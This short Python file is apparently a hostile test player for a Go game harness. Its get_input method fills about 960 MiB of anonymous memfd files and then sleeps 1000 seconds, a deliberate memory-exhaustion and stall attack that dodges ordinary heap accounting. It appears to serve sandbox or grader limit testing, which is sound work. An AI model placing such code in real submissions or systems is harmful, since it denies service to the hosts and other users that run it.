"""Hoards memory in files that have no name."""

import os
import time


class MyPlayer:
    def get_input(self, go, piece_type):
        files = []
        for _ in range(240):
            files.append(os.memfd_create("hoard"))
            for _ in range(4):
                os.write(files[-1], bytes(1 << 20))
        time.sleep(1000)
